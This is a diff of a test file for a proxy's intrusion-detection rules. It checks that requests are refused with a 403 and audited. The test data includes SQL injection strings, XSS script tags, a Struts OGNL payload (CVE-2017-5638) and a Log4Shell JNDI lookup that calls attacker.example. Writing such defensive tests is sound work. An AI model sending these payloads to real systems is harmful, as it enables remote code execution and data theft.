@@ -74,7 +74,11 @@ ${proxyVhost('app.test', upstreamPort)}`);
     ['SQL injection in the User-Agent', '/', { 'User-Agent': "' OR 1=1--" }],
     ['a custom block rule', '/wp-login.php', {}],
     ['a Log4Shell lookup in any header', '/', { 'X-Api-Version': '${jndi:ldap://attacker.example/a}' }],
-    ['an OGNL expression in Content-Type (Struts, CVE-2017-5638)', '/upload', { 'Content-Type': "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}" }],
+    [
+      'an OGNL expression in Content-Type (Struts, CVE-2017-5638)',
+      '/upload',
+      { 'Content-Type': "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}" },
+    ],
   ];
   for (const [what, urlPath, headers] of attacks) {
     it(`refuses ${what} with 403 before the upstream sees it`, async () => {
@@ -88,9 +92,13 @@ ${proxyVhost('app.test', upstreamPort)}`);
 
   it('audits the match and the refusal, with the rule and where it matched', async () => {
     await get('/items?id=1%20UNION%20SELECT%20null,null--', {}, '127.0.0.60');
-    const match = await waitFor('ids.match', () => server.logLines().find((line) => line.audit === 'ids.match' && line.clientIp === '127.0.0.60'));
+    const match = await waitFor('ids.match', () =>
+      server.logLines().find((line) => line.audit === 'ids.match' && line.clientIp === '127.0.0.60'),
+    );
     assert.match(String(match.detail), /rule=sqli .*location=query .*action=block/);
-    await waitFor('the refusal', () => server.logLines().find((line) => line.audit === 'request.ids_blocked' && line.clientIp === '127.0.0.60'));
+    await waitFor('the refusal', () =>
+      server.logLines().find((line) => line.audit === 'request.ids_blocked' && line.clientIp === '127.0.0.60'),
+    );
   });
 
   const benign: [string, Record<string, string>][] = [
@@ -135,12 +143,21 @@ ${proxyVhost('app.test', upstreamPort)}`);
       body: JSON.stringify({ name: "Miles O'Brien", note: 'please select the union option' }),
     });
     assert.equal(fine.status, 200);
-    assert.equal(seen.at(-1)?.body, JSON.stringify({ name: "Miles O'Brien", note: 'please select the union option' }), 'the held body arrives whole');
+    assert.equal(
+      seen.at(-1)?.body,
+      JSON.stringify({ name: "Miles O'Brien", note: 'please select the union option' }),
+      'the held body arrives whole',
+    );
   });
 
   it('a large benign body streams through whole after its first bytes are judged', async () => {
     const body = 'lorem ipsum dolor sit amet '.repeat(10_000);
-    const response = await request(server.port, { method: 'POST', path: '/upload', headers: { Host: 'app.test', 'Content-Type': 'text/plain' }, body });
+    const response = await request(server.port, {
+      method: 'POST',
+      path: '/upload',
+      headers: { Host: 'app.test', 'Content-Type': 'text/plain' },
+      body,
+    });
     assert.equal(response.status, 200);
     assert.equal(response.body, `upstream read ${body.length}\n`);
   });
@@ -148,7 +165,9 @@ ${proxyVhost('app.test', upstreamPort)}`);
   it('a log rule serves the request and audits the match', async () => {
     const response = await get('/', { 'User-Agent': 'curl/7.15.5' }, '127.0.0.61');
     assert.equal(response.status, 200);
-    const match = await waitFor('the log match', () => server.logLines().find((line) => line.audit === 'ids.match' && line.clientIp === '127.0.0.61'));
+    const match = await waitFor('the log match', () =>
+      server.logLines().find((line) => line.audit === 'ids.match' && line.clientIp === '127.0.0.61'),
+    );
     assert.match(String(match.detail), /rule=old-client .*action=log/);
   });
 
@@ -159,7 +178,9 @@ ${proxyVhost('app.test', upstreamPort)}`);
       const answer = await new Promise<string>((resolve) => {
         const socket = net.connect({ port: server.port, host: '127.0.0.1', localAddress: client });
         let text = '';
-        socket.on('connect', () => socket.write(`GET /?q=%3Cscript%3Ealert(${i})%3C/script%3E HTTP/1.1\r\nHost: app.test\r\nConnection: close\r\n\r\n`));
+        socket.on('connect', () =>
+          socket.write(`GET /?q=%3Cscript%3Ealert(${i})%3C/script%3E HTTP/1.1\r\nHost: app.test\r\nConnection: close\r\n\r\n`),
+        );
         socket.on('data', (chunk: Buffer) => (text += chunk.toString('latin1')));
         socket.on('error', () => undefined);
         socket.on('close', () => resolve(text));
@@ -180,7 +201,10 @@ ${proxyVhost('app.test', upstreamPort)}`);
   });
 
   it('protects a static vhost as well as a proxied one', async () => {
-    const answer = await rawRequest(server.port, "GET /?id=1%27%20or%20%271%27=%271 HTTP/1.1\r\nHost: site.test\r\nConnection: close\r\n\r\n");
+    const answer = await rawRequest(
+      server.port,
+      'GET /?id=1%27%20or%20%271%27=%271 HTTP/1.1\r\nHost: site.test\r\nConnection: close\r\n\r\n',
+    );
     assert.match(answer, /^HTTP\/1\.1 403 /);
   });
 });
